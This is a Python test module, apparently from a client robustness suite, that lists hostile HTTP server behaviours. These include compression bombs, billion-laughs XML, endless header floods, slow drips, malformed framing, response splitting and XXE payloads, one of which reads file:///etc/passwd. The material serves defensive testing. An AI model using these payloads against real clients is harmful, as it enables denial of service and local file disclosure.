"""What a hostile endpoint may do, one row a behaviour: bombs, floods, drips, frames that lie, and who else to ask."""
import base64
import gzip
import time
import zlib

import hostile_text
from hostile_peer import FINDING, NOTHING, XML, Row, answer, fixed, once, serve, xml

GOOD = b'{"RequestId":"910A2DEC-8902-4CC1-911E-2C1834F20CDC","BackupJobId":"5073731"}'
GOOD_XML = (b'<?xml version="1.0" encoding="UTF-8"?><CreateBackupResponse><RequestId>910A2DEC-8902-4CC1-911E-2C1834F20CDC'
            b'</RequestId><BackupJobId>5073731</BackupJobId></CreateBackupResponse>')
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
MIB = 1 << 20
# 64 MiB of zeros, by libbrotlienc.
BROTLI_BOMB = base64.b64decode("z///fwAkAOKxQHLv//n//w+ABEAcFoDu/T////8BkACIwwLQvf/P//9/ABIAcVgAuvf/")
# A frame of 10,000 blocks of 128 KiB, each one byte repeated (RFC 8878).
ZSTD_BOMB = bytes.fromhex("28b52ffd0038") + b"".join(
    (last | 2 | (0x20000 << 3)).to_bytes(3, "little") + b"a" for last in [0] * 9_999 + [1])


def gzip_bomb():
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = bytes(MIB)
    return b"".join(packer.compress(piece) for _ in range(64)) + packer.flush()


def bombs():
    bomb = gzip_bomb()
    packed = gzip.compress(GOOD)
    yield fixed("gzip-bomb", answer(bomb, headers=[("Content-Encoding", "gzip")]))
    yield fixed("gzip-bomb-twice", answer(gzip.compress(bomb), headers=[("Content-Encoding", "gzip, gzip")]))
    yield fixed("gzip-bomb-without-a-word", answer(bomb))
    yield fixed("deflate-bomb", answer(zlib.compress(bytes(64 * MIB), 9), headers=[("Content-Encoding", "deflate")]))
    yield fixed("brotli-bomb", answer(BROTLI_BOMB, headers=[("Content-Encoding", "br")]))
    yield fixed("zstd-bomb", answer(ZSTD_BOMB, headers=[("Content-Encoding", "zstd")]))
    yield fixed("gzip-unasked", answer(packed, headers=[("Content-Encoding", "gzip")]))
    yield fixed("gzip-as-transfer-coding", HEAD + b"Transfer-Encoding: gzip, chunked\r\n\r\n%x\r\n" % len(packed) + packed +
                b"\r\n0\r\n\r\n", NOTHING)
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield xml("billion-laughs", f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><CreateBackupResponse><RequestId>&l9;</RequestId>'
              "</CreateBackupResponse>")
    yield xml("quadratic-entities", f'<!DOCTYPE x [<!ENTITY a "{"a" * 50000}">]><x><RequestId>{"&a;" * 50000}</RequestId></x>')
    yield xml("parameter-entities", '<!DOCTYPE x [<!ENTITY % a "<!ENTITY b \'c\'>"> %a; %a;]><x>&b;</x>')
    yield xml("recursive-entities", '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]><x>&a;</x>')
    for depth in (1000, 100_000):
        yield xml(f"{depth}-elements-deep", "<a>" * depth + "</a>" * depth)
        yield fixed(f"{depth}-arrays-deep", answer("[" * depth + "]" * depth))
        yield fixed(f"{depth}-objects-deep", answer('{"a":' * depth + "1" + "}" * depth))
    yield xml("elements-never-closed", "<a>" * 300_000)
    yield xml("100000-attributes", "<x " + " ".join(f'a{n}="1"' for n in range(60_000)) + "/>")
    yield xml("100000-members-of-xml", "<x>" + "<RequestId>1</RequestId>" * 40_000 + "</x>")
    yield fixed("100000-members", answer("{" + ",".join(f'"m{n}":1' for n in range(70_000)) + "}"))
    yield fixed("same-member-100000-times", answer("{" + ",".join(['"RequestId":1'] * 70_000) + "}"))
    yield fixed("a-number-of-a-million-digits", answer('{"RequestId":"1","BackupJobId":' + "9" * 1_000_000 + "}"))
    yield fixed("exponents", answer('{"RequestId":1e999999999,"BackupJobId":-1E-999999999}'))
    yield fixed("a-job-beyond-64-bits", answer('{"RequestId":"R","BackupJobId":18446744073709551616}'))
    yield fixed("a-name-of-a-million-bytes", answer('{"' + "n" * 1_000_000 + '":1}'))


def floods():
    length = HEAD + b"Content-Length: 1073741824\r\n\r\n"
    chunk = b"10000\r\n" + b"a" * 0x10000 + b"\r\n"
    yield once("a-gib-by-length", lambda peer: (peer.send(length), peer.repeat(b"a")))
    yield once("a-gib-in-chunks", lambda peer: (peer.send(HEAD + b"Transfer-Encoding: chunked\r\n\r\n"), peer.repeat(chunk)))
    yield once("a-gib-until-close", lambda peer: (peer.send(HEAD + b"\r\n"), peer.repeat(b"a")))
    yield once("chunks-of-one-byte", lambda peer: (peer.send(HEAD + b"Transfer-Encoding: chunked\r\n\r\n"), peer.repeat(b"1\r\na\r\n")))
    yield once("a-gib-in-one-chunk", lambda peer: (peer.send(HEAD + b"Transfer-Encoding: chunked\r\n\r\n40000000\r\n"), peer.repeat(b"a")))
    yield once("endless-chunk-extension", lambda peer: (peer.send(HEAD + b"Transfer-Encoding: chunked\r\n\r\n1;"), peer.repeat(b"a=b;")))
    yield once("endless-chunk-size", lambda peer: (peer.send(HEAD + b"Transfer-Encoding: chunked\r\n\r\n"), peer.repeat(b"0")))
    yield once("endless-trailers", lambda peer: (peer.send(HEAD + b"Transfer-Encoding: chunked\r\n\r\n0\r\n"), peer.repeat(b"a: b\r\n")))
    yield once("endless-headers", lambda peer: (peer.send(HEAD), peer.repeat(b"a: b\r\n")))
    yield once("endless-header-line", lambda peer: (peer.send(HEAD + b"a: "), peer.repeat(b"b")))
    yield once("endless-header-name", lambda peer: (peer.send(HEAD), peer.repeat(b"b")))
    yield once("endless-folded-header", lambda peer: (peer.send(HEAD + b"a: b\r\n"), peer.repeat(b" c\r\n")))
    yield once("endless-reason", lambda peer: (peer.send(b"HTTP/1.1 200 "), peer.repeat(b"a")))
    yield once("endless-interim-answers", lambda peer: peer.repeat(b"HTTP/1.1 100 Continue\r\n\r\n"))
    yield once("endless-early-hints", lambda peer: peer.repeat(b"HTTP/1.1 103 Early Hints\r\nLink: <x>; rel=preload\r\n\r\n"))
    yield fixed("100000-headers", HEAD + b"a: b\r\n" * 100_000 + b"\r\n", NOTHING)
    yield fixed("64-kib-of-headers", HEAD + b"a: b\r\n" * 12_000 + b"\r\n", NOTHING)
    yield fixed("length-of-60-digits", HEAD + b"Content-Length: " + b"9" * 60 + b"\r\n\r\n{}", NOTHING)
    yield fixed("length-of-64-bits", HEAD + b"Content-Length: 18446744073709551615\r\n\r\n{}", NOTHING)
    yield fixed("chunk-of-64-bits", HEAD + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n{}\r\n0\r\n\r\n", NOTHING)
    yield fixed("chunk-of-128-bits", HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 32 + b"\r\n{}\r\n0\r\n\r\n", NOTHING)
    yield once("flood-without-a-line", lambda peer: peer.repeat(b"\0"))


def drips():
    body = answer(GOOD)
    at = {"status-line": 0, "header": 20, "end-of-header": body.index(b"\r\n\r\n") + 1, "body": body.index(b"{") + 1}
    for where, first in at.items():
        yield once(f"drips-in-the-{where}", lambda peer, first=first: (peer.send(body[:first]), peer.drip(body[first:])), waits=True)
        yield once(f"stops-in-the-{where}", lambda peer, first=first: (peer.send(body[:first]), peer.hold()), waits=True)
    chunked = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
    yield once("drips-in-a-chunk-size", lambda peer: (peer.send(chunked), peer.drip(b"0" * 1000)), waits=True)
    yield once("drips-in-a-chunk", lambda peer: (peer.send(chunked + b"ff\r\n"), peer.drip(b"a" * 1000)), waits=True)
    yield once("drips-in-trailers", lambda peer: (peer.send(chunked + b"0\r\n"), peer.drip(b"a: b\r\n" * 200)), waits=True)
    yield once("drips-interim-answers", lambda peer: peer.drip(b"HTTP/1.1 100 Continue\r\n\r\n" * 40, 0.01), waits=True)
    yield once("never-answers", lambda peer: peer.hold(), waits=True)
    yield Row("never-reads", lambda peer: time.sleep(5), NOTHING, waits=True)
    yield once("interim-and-nothing-more", lambda peer: (peer.send(b"HTTP/1.1 102 Processing\r\n\r\n"), peer.hold()), waits=True)


def ends():
    yield Row("closes-at-once", lambda peer: None, NOTHING)
    yield Row("resets-at-once", lambda peer: peer.reset(), NOTHING)
    yield once("closes-after-the-request", lambda peer: None)
    yield once("resets-after-the-request", lambda peer: peer.reset())
    yield once("resets-in-the-body", lambda peer: (peer.send(answer(GOOD)[:-10]), time.sleep(0.02), peer.reset()))
    data = answer(GOOD)
    # Where it is cut the answer is no answer; every point is met when all rows are played.
    for size in range(1, len(data)):
        yield once(f"cut-after-{size}", lambda peer, size=size: peer.send(data[:size]), slow=size % 8 != 0)
    chunked = HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"%x\r\n" % len(GOOD) + GOOD + b"\r\n0\r\n\r\n"
    for size in range(len(HEAD), len(chunked)):
        yield once(f"chunks-cut-after-{size}", lambda peer, size=size: peer.send(chunked[:size]), slow=size % 8 != 0)


def frames():
    def told(name, head, body=GOOD, ends=NOTHING):
        return once(name, lambda peer: peer.send(HEAD + head + b"\r\n\r\n" + body), ends)
    size = len(GOOD)
    yield told("length-too-short", b"Content-Length: %d" % (size - 1))
    yield told("length-too-long", b"Content-Length: %d" % (size + 1))
    yield told("two-lengths", b"Content-Length: %d\r\nContent-Length: %d" % (size, size + 1))
    yield told("two-lengths-in-one", b"Content-Length: %d, %d" % (size, size + 1))
    yield told("length-and-chunks", b"Content-Length: %d\r\nTransfer-Encoding: chunked" % size, b"4c\r\n" + GOOD + b"\r\n0\r\n\r\n")
    for index, length in enumerate((b"-1", b"+76", b"0x4c", b"76.0", b"7 6", b"", b"76;", b"\xd9\xa7\xd9\xa6")):
        yield told(f"length-that-is-none-{index}", b"Content-Length: " + length)
    for index, coding in enumerate((b"identity", b"chunked, chunked", b"chunked;q=1", b"xchunked", b"chunked, gzip", b"\"chunked\"")):
        yield told(f"coding-that-is-none-{index}", b"Transfer-Encoding: " + coding, b"4c\r\n" + GOOD + b"\r\n0\r\n\r\n")
    chunks = {"no-size": b"\r\n", "not-hexadecimal": b"zz\r\n", "negative": b"-4c\r\n" + GOOD, "prefixed": b"0x4c\r\n" + GOOD,
              "longer-than-told": b"4b\r\n" + GOOD + b"\r\n0\r\n\r\n", "shorter-than-told": b"4d\r\n" + GOOD + b"\r\n0\r\n\r\n",
              "blank-before-size": b" 4c\r\n" + GOOD + b"\r\n0\r\n\r\n"}
    for name, data in chunks.items():
        yield told(f"chunk-{name}", b"Transfer-Encoding: chunked", data)
    for index, line in enumerate((b"no colon", b": no name", b"na me: x", b"name : x", b"n\x00ame: x", b"name: \x00", b"name: \x1b[31m",
                                  b"name: a\rb", b"n\xc3\xa4me: x", b" folded: first")):
        yield once(f"header-that-is-none-{index}", lambda peer, line=line: peer.send(b"HTTP/1.1 200 OK\r\n" + line + b"\r\n" + answer(GOOD)[17:]))
    for index, line in enumerate((b"HTTP/0.9 200 OK", b"HTTP/2 200 OK", b"HTTP/1.2 200 OK", b"HTTP/1.10 200 OK", b"http/1.1 200 OK",
                                  b"HTTP/1.1  200 OK", b"HTTP/1.1 200OK", b"HTTP/1.1 2 OK", b"HTTP/1.1 -20 OK", b"HTTP/1.1 20O OK",
                                  b"HTTP/1.1", b"ICY 200 OK", b"\xef\xbb\xbfHTTP/1.1 200 OK", b"\r\n\r\nHTTP/1.1 200 OK")):
        yield once(f"status-line-that-is-none-{index}", lambda peer, line=line: peer.send(line + answer(GOOD)[15:]))
    for status in ("000", "99", "099", "600", "999", "1000", "-200"):
        yield fixed(f"status-{status}", answer(GOOD, f"{status} X"), NOTHING)
    yield once("http-0.9", lambda peer: peer.send(b"<html>It works!</html>"))
    yield Row("http-2-preface", lambda peer: (peer.send(b"\0\0\x06\x04\0\0\0\0\0\0\x03\0\0\0d"), peer.hold()), NOTHING)
    yield Row("tls-alert", lambda peer: (peer.send(b"\x15\x03\x01\x00\x02\x02\x28"), peer.hold()), NOTHING)
    yield Row("ssh-banner", lambda peer: (peer.send(b"SSH-2.0-OpenSSH_9.2\r\n"), peer.hold()), NOTHING)
    yield once("switches-protocols", lambda peer: peer.send(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n"))
    yield once("asks-to-continue-and-closes", lambda peer: peer.send(b"HTTP/1.1 100 Continue\r\n\r\n"))


def strays():
    """Answers that nobody asked for."""
    yield Row("answers-before-the-request", lambda peer: (peer.send(answer("{}")), peer.hold()), FINDING)
    yield fixed("two-answers-to-one-request", answer(GOOD) * 2, NOTHING)
    yield fixed("a-split-answer", answer(b"{}", headers=[("X-Id", b"1\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK")]) + answer(GOOD), NOTHING)
    yield fixed("bytes-behind-the-answer", answer(GOOD) + b"\r\n", NOTHING)
    yield fixed("an-answer-behind-no-content", b"HTTP/1.1 204 No Content\r\n\r\n" + answer(GOOD), NOTHING)
    yield fixed("204-with-a-body", answer(GOOD, "204 No Content"), NOTHING)
    yield fixed("304-with-a-body", answer(GOOD, "304 Not Modified"), NOTHING)
    yield fixed("204", b"HTTP/1.1 204 No Content\r\n\r\n")
    yield fixed("304", b"HTTP/1.1 304 Not Modified\r\n\r\n")
    yield fixed("interim-answers-first", b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" + answer(b"{}"))


def away():
    """Where else one might be sent."""
    for code in (300, 301, 302, 303, 305, 307, 308):
        def to(peer, code=code):
            return answer("moved", f"{code} Moved", "text/plain", [("Location", f"{peer.elsewhere}/redirect-{code}")])
        yield Row(f"redirects-{code}", serve(to), FINDING)
    names = [("Location", ""), ("Content-Location", ""), ("Refresh", "0; url="), ("Alt-Svc", 'h2="'), ("Link", "<"), ("Report-To", ""),
             ("SourceMap", ""), ("X-Forwarded-Host", ""), ("Proxy-Authenticate", ""), ("Origin", "")]
    yield Row("headers-that-lead-elsewhere", serve(lambda peer: answer(
        b"{}", headers=[(name, f"{before}{peer.elsewhere}/header") for name, before in names] + [("Set-Cookie", "a=b; Domain=.com")])), FINDING)
    yield Row("authenticate-elsewhere", serve(lambda peer: answer(b"{}", "401 Unauthorized", headers=[
        ("WWW-Authenticate", f'Digest realm="x", domain="{peer.elsewhere}/", nonce="x"')])), FINDING)
    yield Row("proxy-authenticate", serve(lambda peer: answer(b"{}", "407 Proxy", headers=[("Proxy-Authenticate", "Basic realm=x")])), FINDING)
    bodies = {
        "external-entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "{0}/entity">]><x><RequestId>&a;</RequestId></x>',
        "entity-of-a-file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x><RequestId>&a;</RequestId></x>',
        "external-parameter-entity": '<!DOCTYPE x [<!ENTITY % a SYSTEM "{0}/parameter"> %a;]><x/>',
        "document-type-elsewhere": '<!DOCTYPE x SYSTEM "{0}/dtd"><x/>',
        "public-document-type": '<!DOCTYPE x PUBLIC "-//X//X" "{0}/dtd"><x/>',
        "stylesheet": '<?xml version="1.0"?><?xml-stylesheet href="{0}/style"?><x><RequestId>1</RequestId></x>',
        "schema-location": '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {0}/schema"/>',
        "include": '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{0}/include" parse="text"/></x>'}
    for name, body in bodies.items():
        yield Row(f"xml-{name}", serve(lambda peer, body=body: answer(body.replace("{0}", peer.elsewhere), media_type=XML)), FINDING, "xml")
    yield Row("html-that-loads", serve(lambda peer: answer(
        f'<html><meta http-equiv=refresh content="0;url={peer.elsewhere}"><base href="{peer.elsewhere}/"><img src="{peer.elsewhere}/img">'
        f'<link rel=stylesheet href="{peer.elsewhere}/css"><script src="{peer.elsewhere}/js"></script>', media_type="text/html")), FINDING)
    yield Row("json-schema-elsewhere", serve(lambda peer: answer('{"$schema":"%s/a","$ref":"%s/b"}' % (peer.elsewhere, peer.elsewhere))), FINDING)


def rows():
    """All of them, in one order."""
    for group in (bombs, floods, drips, ends, frames, strays, away, hostile_text.text_rows):
        yield from group()
